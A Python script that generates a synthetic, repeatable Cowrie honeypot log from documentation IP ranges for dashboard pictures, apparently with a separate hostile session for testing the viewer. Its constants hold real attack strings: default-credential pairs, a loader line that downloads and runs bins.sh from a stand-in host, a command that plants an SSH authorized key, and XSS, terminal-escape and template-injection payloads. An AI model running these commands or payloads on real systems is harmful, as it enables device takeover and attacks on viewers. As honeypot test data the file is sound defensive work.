"""Writes a log as Cowrie writes it: a day of the attacks that every sensor sees, from addresses for documentation.

Made up and repeatable, so that pictures of the dashboard show nobody's machine.
"""
import hashlib
import json
import math
import random
from datetime import datetime, timedelta, timezone

DAY = 86400
PAIRS = [("root", "root"), ("root", "123456"), ("admin", "admin"), ("root", "xc3511"), ("root", "vizxv"), ("admin", "1234"),
         ("support", "support"), ("ubuntu", "ubuntu"), ("root", "admin"), ("user", "user"), ("oracle", "oracle"), ("pi", "raspberry"),
         ("root", "password"), ("test", "test"), ("git", "git"), ("postgres", "postgres"), ("root", "1qaz2wsx"), ("guest", "12345"),
         ("root", "juantech"), ("admin", "7ujMko0admin"), ("root", "Zte521"), ("default", "default"), ("root", "hi3518"), ("345gs5662d34", "345gs5662d34")]
CLIENTS = [("SSH-2.0-Go", "0a07365cc01fa9fc82608ba4019af499"), ("SSH-2.0-libssh2_1.10.0", "51cba57125523ce4b9db67714a90bf6e"),
           ("SSH-2.0-paramiko_2.9.2", "a7a87fbe86774c2e40cc4a7ea2ab1b3c"), ("SSH-2.0-OpenSSH_7.4p1", "ec7378c1a92f5a8dde7e8b7a1ddf33d1"),
           ("SSH-2.0-PUTTY", "92674389fa1e47a27ddd8d9b63ecd42b")]
LOADER = ["enable", "system", "shell", "sh", "/bin/busybox ECCHI", "cat /proc/mounts; /bin/busybox ECCHI",
          "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox ECCHI",
          "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.23/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -f bins.sh"]
SURVEY = ["uname -s -v -n -r -m", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
          "w", "crontab -l", "whoami", "top", "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'", "which ls", "lscpu | grep Model"]
KEY = "cd ~; chattr -ia .ssh; lockr -ia .ssh; rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh"
FILES = ["bins.sh", "mirai.mips", "mirai.arm7", "sshd", "clean.sh", "redtail.x86_64", "setup.sh", "xmrig", ".s"]


class Log:
    def __init__(self, now, seed=7):
        self.now = now
        self.random = random.Random(seed)
        self.lines = []
        self.sources = [f"{net}.{host}" for net in ("192.0.2", "198.51.100", "203.0.113") for host in self.random.sample(range(1, 255), 28)]
        self.sources += [f"2001:db8:{self.random.randrange(65536):x}::{self.random.randrange(4096):x}" for _ in range(5)]

    def pick(self, items, steepness=1.6):
        """The first items are the likely ones, as in the wild."""
        return items[int(len(items) * self.random.random() ** steepness)]

    def write(self, at, session, source, eventid, **fields):
        stamp = datetime.fromtimestamp(at, timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        self.lines.append((at, {"eventid": "cowrie." + eventid, "timestamp": stamp, "session": session, "src_ip": source,
                                "sensor": "sensor-1", **fields}))

    def attack(self, at):
        rng = self.random
        session = f"{rng.getrandbits(48):012x}"
        source = self.pick(self.sources)
        telnet = rng.random() < 0.55
        start = at
        protocol = "telnet" if telnet else "ssh"

        def step(eventid, **fields):
            nonlocal at
            at += rng.uniform(0.05, 2.5)
            self.write(at, session, source, eventid, protocol=protocol, **fields)

        step("session.connect", src_port=rng.randrange(1024, 65535), dst_ip="203.0.113.200", dst_port=23 if telnet else 22)
        if not telnet:
            version, hassh = self.pick(CLIENTS)
            step("client.version", version=version)
            step("client.kex", hassh=hassh)
        for _ in range(rng.choice([0, 0, 1, 1, 2, 3, 5])):
            username, password = self.pick(PAIRS)
            step("login.failed", username=username, password=password)
        if rng.random() < 0.45:
            username, password = self.pick(PAIRS)
            step("login.success", username=username, password=password)
            for line in self.script(telnet):
                step("command.input", input=line)
            if rng.random() < 0.5:
                self.drop(step, telnet)
        step("session.closed", duration=at - start)

    def script(self, telnet):
        if telnet:
            return LOADER[: self.random.randrange(4, len(LOADER) + 1)]
        if self.random.random() < 0.3:
            return [KEY]
        return self.random.sample(SURVEY, self.random.randrange(1, 6))

    def drop(self, step, telnet):
        name = self.pick(FILES)
        shasum = hashlib.sha256(name.encode()).hexdigest()
        if telnet:
            step("session.file_download", url=f"http://198.51.100.23/{name}", destfile=f"/tmp/{name}", shasum=shasum,
                 outfile=f"var/lib/cowrie/downloads/{shasum}")
        else:
            step("session.file_upload", filename=name, destfile=f"/root/{name}", shasum=shasum,
                 outfile=f"var/lib/cowrie/downloads/{shasum}")

    def day(self, attacks):
        for _ in range(attacks):
            while True:
                back = self.random.uniform(60, DAY)
                wave = 0.55 + 0.3 * math.sin(back / DAY * 2 * math.pi) + 0.15 * math.sin(back / 3100)
                if self.random.random() < wave:
                    break
            self.attack(self.now - back)

    def save(self, path):
        self.lines.sort(key=lambda line: line[0])
        with open(path, "w", encoding="utf-8") as file:
            for at, line in self.lines:
                if at <= self.now:
                    file.write(json.dumps(line) + "\n")


HOSTILE = {
    "markup": "<img src=x onerror=alert(1)><script>alert(2)</script>",
    "escape": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "bidi": "\u202egpj.exe\u2066\u200b\u200f hidden",
    "marks": "e" + "\u0301" * 40,
    "nul": "a\x00b\x7fc\x85d",
}


def hostile(now):
    """A session three days ago in which every text is an attack on whoever looks at it, and one line is 1 MB long."""
    log = Log(now)
    at = now - 3 * DAY
    common = {"protocol": "telnet"}
    log.write(at, "badbadbadbad", "192.0.2.66", "session.connect", src_port=4444, dst_ip="203.0.113.200", dst_port=23, **common)
    log.write(at + 1, "badbadbadbad", "192.0.2.66", "client.version", version=HOSTILE["markup"] + HOSTILE["bidi"], **common)
    for offset, text in enumerate(HOSTILE.values()):
        log.write(at + 2 + offset, "badbadbadbad", "192.0.2.66", "login.failed", username=text, password=text, **common)
    log.write(at + 10, "badbadbadbad", "192.0.2.66", "login.success", username=HOSTILE["markup"], password=HOSTILE["escape"], **common)
    for offset, text in enumerate([*HOSTILE.values(), "javascript:alert(3)", "{{7*7}}${7*7}", "L" * 1024 * 1024, "\x1b" * 20000]):
        log.write(at + 20 + offset, "badbadbadbad", "192.0.2.66", "command.input", input=text, **common)
    log.write(at + 40, "badbadbadbad", "192.0.2.66", "session.file_download", url="javascript:alert(4)", destfile=HOSTILE["markup"] + HOSTILE["bidi"],
              shasum="bad0" * 16, outfile="dl/bad0", **common)
    log.write(at + 50, "badbadbadbad", "192.0.2.66", "session.closed", duration=50.0, **common)
    return log
